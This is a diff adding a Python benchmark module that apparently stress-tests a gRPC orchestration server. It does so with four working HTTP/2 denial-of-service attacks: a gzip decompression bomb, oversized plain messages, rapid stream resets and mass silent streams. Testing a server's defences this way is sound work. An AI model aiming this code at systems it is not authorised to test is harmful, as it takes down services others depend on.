@@ -1,0 +1,202 @@
+"""Clients that do harm, each a process of its own so that their work does not count as the server's.
+
+python -m benchmarks.attacks KIND HOST:PORT CLIENTS SECONDS prints how many calls were begun and ended.
+"""
+
+import contextlib
+import gzip
+import json
+import selectors
+import socket
+import struct
+import sys
+import time
+from collections.abc import Callable
+from dataclasses import dataclass
+
+from benchmarks.http2 import (
+    ACK,
+    DATA,
+    END_HEADERS,
+    END_STREAM,
+    GOAWAY,
+    HEADERS,
+    INITIAL_WINDOW,
+    PING,
+    PREFACE,
+    RST_STREAM,
+    SETTINGS,
+    WINDOW,
+    WINDOW_UPDATE,
+    frame,
+    headers_of,
+)
+
+BATCH_CREATE = "/orchestration.v1.TaskService/BatchCreateTasks"
+GET_TASK = "/orchestration.v1.TaskService/GetTask"
+EMPTY_TASKS = b"\x0a\x02\x0a\x00"
+"""A `NewTask` with an empty task, as an item of BatchCreateTasksRequest."""
+BOMB = gzip.compress(EMPTY_TASKS * (4 * (1 << 20) - 64), 9)
+PLAIN_BOMB = EMPTY_TASKS * (1 << 18)
+RESETS_A_WRITE = 500
+SILENT_A_CONNECTION = 1_100
+FRAME_BYTES = 16_384
+CANCEL = struct.pack(">I", 8)
+
+
+class Connection:
+    """One HTTP/2 connection that opens calls and counts those that the server ended."""
+
+    def __init__(self, address: str) -> None:
+        host, _, port = address.rpartition(":")
+        self.socket = socket.create_connection((host, int(port)))
+        self.socket.settimeout(5)
+        self.next = 1
+        self.begun = self.ended = 0
+        self.open = True
+        self._pending = b""
+        settings = struct.pack(">HI", INITIAL_WINDOW, WINDOW)
+        self.send(PREFACE + frame(SETTINGS, 0, 0, settings))
+        self.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", WINDOW - 65535)))
+
+    def send(self, data: bytes) -> None:
+        try:
+            self.socket.sendall(data)
+        except OSError:
+            self.open = False
+
+    def stream(self) -> int:
+        """The number of the next call."""
+        number, self.next = self.next, self.next + 2
+        self.begun += 1
+        return number
+
+    def take(self) -> int:
+        """Reads what is there. Returns the number of calls that the server ended."""
+        try:
+            data = self.socket.recv(1 << 18)
+        except OSError:
+            data = b""
+        if not data:
+            self.open = False
+            return 0
+        data, at, before = self._pending + data, 0, self.ended
+        while len(data) - at >= 9:
+            size = int.from_bytes(data[at : at + 3])
+            if len(data) - at < 9 + size:
+                break
+            kind, flags = data[at + 3], data[at + 4]
+            if kind == SETTINGS and not flags & ACK:
+                self.send(frame(SETTINGS, ACK, 0, b""))
+            elif kind == PING and not flags & ACK:
+                self.send(frame(PING, ACK, 0, data[at + 9 : at + 9 + size]))
+            elif kind == RST_STREAM or (kind == HEADERS and flags & END_STREAM):
+                self.ended += 1
+            elif kind == GOAWAY:
+                self.open = False
+            at += 9 + size
+        self._pending = data[at:]
+        return self.ended - before
+
+
+@dataclass(frozen=True)
+class Attack:
+    """What one connection does when it opens and each time the server ended some of its calls."""
+
+    open: Callable[[Connection, str], None]
+    again: Callable[[Connection, str, int], None]
+    reconnect: bool = True
+    """Whether a connection that the server closed is opened again."""
+
+
+def _send_bomb(connection: Connection, address: str, body: bytes, *, packed: bool) -> None:
+    stream = connection.stream()
+    headers = headers_of(address, BATCH_CREATE)
+    if packed:
+        headers += b"\x00\x0dgrpc-encoding\x04gzip"
+    message = struct.pack(">BI", packed, len(body)) + body
+    parts = [message[at : at + FRAME_BYTES] for at in range(0, len(message), FRAME_BYTES)]
+    sent = frame(HEADERS, END_HEADERS, stream, headers)
+    for number, part in enumerate(parts, 1):
+        sent += frame(DATA, END_STREAM if number == len(parts) else 0, stream, part)
+    connection.send(sent)
+
+
+def _send_resets(connection: Connection, address: str) -> None:
+    headers = headers_of(address, GET_TASK)
+    sent = b""
+    for _ in range(RESETS_A_WRITE):
+        stream = connection.stream()
+        sent += frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, CANCEL)
+    connection.send(sent)
+
+
+def _open_silent(connection: Connection, address: str, calls: int = SILENT_A_CONNECTION) -> None:
+    headers = headers_of(address, GET_TASK)
+    connection.send(b"".join(frame(HEADERS, END_HEADERS, connection.stream(), headers) for _ in range(calls)))
+
+
+def _packed(connection: Connection, address: str, calls: int = 1) -> None:
+    for _ in range(calls):
+        _send_bomb(connection, address, BOMB, packed=True)
+
+
+def _plain(connection: Connection, address: str, calls: int = 1) -> None:
+    # Within the window of a new stream, so that nothing has to be waited for.
+    for _ in range(calls):
+        _send_bomb(connection, address, PLAIN_BOMB[: (1 << 16) - FRAME_BYTES], packed=False)
+
+
+ATTACKS = {
+    "bombs": Attack(_packed, _packed),
+    "plain": Attack(_plain, _plain),
+    "resets": Attack(_send_resets, lambda connection, address, ended: None),
+    "silent": Attack(_open_silent, _open_silent),
+}
+
+
+def run(kind: str, address: str, clients: int, seconds: float) -> dict[str, int]:
+    """Attacks for that long. Returns the number of calls begun and of those that the server ended."""
+    attack = ATTACKS[kind]
+    end = time.monotonic() + seconds
+    selector = selectors.DefaultSelector()
+    totals = {"begun": 0, "ended": 0, "connections": 0}
+
+    def connect() -> None:
+        with contextlib.suppress(OSError):
+            connection = Connection(address)
+            totals["connections"] += 1
+            selector.register(connection.socket, selectors.EVENT_READ, connection)
+            attack.open(connection, address)
+
+    for _ in range(clients):
+        connect()
+    while time.monotonic() < end:
+        for key, _ in selector.select(timeout=0 if kind == "resets" else 0.05):
+            connection: Connection = key.data
+            ended = connection.take()
+            if connection.open and ended:
+                attack.again(connection, address, ended)
+        for key in list(selector.get_map().values()):
+            connection = key.data
+            if kind == "resets" and connection.open and connection.begun < 60_000:
+                _send_resets(connection, address)
+            if not connection.open:
+                _leave(selector, connection, totals)
+                if attack.reconnect:
+                    connect()
+    for key in list(selector.get_map().values()):
+        _leave(selector, key.data, totals)
+    return totals
+
+
+def _leave(selector: selectors.BaseSelector, connection: Connection, totals: dict[str, int]) -> None:
+    selector.unregister(connection.socket)
+    connection.socket.close()
+    totals["begun"] += connection.begun
+    totals["ended"] += connection.ended
+
+
+if __name__ == "__main__":
+    kind, address, clients, seconds = sys.argv[1:]
+    print(json.dumps(run(kind, address, int(clients), float(seconds))))
